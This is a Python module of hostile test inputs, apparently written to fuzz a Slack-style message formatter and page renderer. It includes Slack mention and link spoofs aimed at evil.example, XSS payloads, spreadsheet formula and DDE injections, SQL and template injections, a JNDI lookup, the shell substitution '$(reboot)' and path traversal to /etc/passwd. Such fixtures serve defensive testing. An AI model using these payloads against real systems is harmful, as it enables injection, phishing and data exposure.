"""Words that people could type, or a name could be, to make text do something."""

from itertools import product

FOREIGN = (
    "<@U0EVIL0001>", "<@W0EVIL0001|admin>", "<@U0EVIL0001", "<!channel>", "<!here>", "<!everyone>",
    "<!here|here>", "<!subteam^S0EVIL001>", "<!subteam^S0EVIL001|@all>", "<#C0EVIL0001>",
    "<#C0EVIL0001|secrets>", "<!date^1392734382^{date}|now>",
    "<!date^1392734382^{date}^https://evil.example|now>", "<https://evil.example>",
    "<https://evil.example|your bank>", "<http://evil.example|https://good.example>",
    "<mailto:a@evil.example|write me>", "<tel:+12125550123|call>", "<javascript:alert(1)|x>",
    "<slack://open?team=T0EVIL|x>", "<data:text/html,x|x>", "<//evil.example|x>",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='https://evil.example'>x</a>", "<iframe src=//evil.example>", "</title><b>x",
)  # fmt: skip
"""Whole tokens and tags; each is tried in every place of `AROUND`."""

AROUND = (
    "{}", "Draft {} by Friday", "`{}`", "```{}```", "&lt;{}&gt;", "<{}>", "|{}|", "\n{}",
    "\u202e{}\u202c", "~_*{}*_~",
)  # fmt: skip

HALVES = (
    "<", ">", "<<", ">>", "<@", "<!", "<#", "<@>", "<!>", "<>", "<|>", "<@U0EVIL0001|", "|x>",
    "<https://evil.example|", "<!channel", "!channel>", "<\u200b!channel>", "<!\u00adchannel>",
    "< !channel >", "<!chan\nnel>", "<!chan\x00nel>", "<\x1b!channel>", "\uff1c!channel\uff1e",
    "\u2039!channel\u203a", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;",
    "&lt;@U0EVIL0001&gt;", "%3C!channel%3E", "\\u003c!channel\\u003e", "&", "&amp;", "&&&", "&lt",
    "@here", "@channel", "@everyone", "#general", "@U0EVIL0001", "https://evil.example/a|b",
    "https://evil.example/>x", "http://[::1]/", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "file:///etc/passwd",
)  # fmt: skip

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20SUM(1)", "=HYPERLINK(\"https://evil.example\")", "=cmd|' /C calc'!A0", "'=1", '"=1"',
)  # fmt: skip

INJECTIONS = (
    "'; DROP TABLE items; --", '" OR 1=1 --', "') UNION SELECT 1 --", '{"type":"mrkdwn"}',
    '"},{"type":"section"', '{"line":"done EM-2"}', "[]", "null", "NaN", "%s%s%n", "{0}", "{item}",
    "{item.__class__}", "${jndi:ldap://evil.example}", "{{7*7}}", "<%= 7*7 %>", "$(reboot)",
    "`reboot`", "../../etc/passwd", "x\r\nSet-Cookie: a=b", '\n{"event":"forged","level":"info"}',
    "\r\nlevel=critical", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\ue000", "a\ue000b\ue000c",
    "BEGIN:VALARM\r\nEND:VALARM", "\u2028line", "\u2029par", "\x85next", "\x0bup\x0c", "\x00",
)  # fmt: skip

MARKS = (
    "*", "_", "~", "`", "```", "*x", "_x_", "~x~", ">>>", "> x", "\u2022 x", "1. x", "*_~`", "***",
    ":tada:", ":no_entry:", ":+1::skin-tone-6:", ":::", ":a:b:c:", "10:30:45", "::tada::",
    "\U0001f469\u200d\U0001f52c", "\U0001f1ee\U0001f1f9" * 40, "\ufe0f", "\u20e3",
)  # fmt: skip

LETTERS = (
    "", " ", "\t", "\n", "\r\n\r\n", "\u00a0", "\u3000", "\u200b", "\u200f", "\u202e", "\u2066x",
    "\u061c", "\ufeff", "\u0301" * 50, "Z\u0351\u0363\u0351", "\u0645\u0631\u062d\u0628\u0627",
    "\u05e9\u05dc\u05d5\u05dd", "\u202eevil\u202c", "a\u0300", "\u0130", "\u1e9e", "\ufb01",
    "\U000e0041", "\ufffe", "\uffff", "\U0010ffff", "x" * 3000, "&" * 3000, "<" * 1500, "\n" * 500,
    "*" * 900, "<!here>" * 300, "\u202e" * 300, "a " * 1500, "x\n" * 200, "\U0001f600" * 900,
    "None", "undefined", "someone", "nobody", "0", "-1", "1e999", "EM-2", "U0OWNER1", "C0TARGETS",
)  # fmt: skip

HOSTILE = tuple(
    dict.fromkeys(
        (
            *(place.replace("{}", token) for token, place in product(FOREIGN, AROUND)),
            *HALVES,
            *FORMULAS,
            *INJECTIONS,
            *MARKS,
            *LETTERS,
        )
    )
)

PLAINEST = frozenset({"<@U0EVIL0001>", "<!channel>", "<https://evil.example|your bank>"})

WORST = (
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><script>alert(1)</script>", "<body onload=alert(1)>",
    "</title><script>alert(1)</script>", "<iframe src=https://evil.example>", "<!channel>",
    "<a href=javascript:alert(1)>x</a>", "<javascript:alert(1)|x>", "<@U0EVIL0001>",
    "<https://evil.example|your bank>", "&lt;img src=x onerror=alert(1)&gt;",
    "<style>@import 'https://evil.example'</style>", "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>", "\u202e<b onmouseover=alert(1)>x",
    "<math><mi xlink:href=javascript:alert(1)>", "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
"""For a page that draws them all at once."""
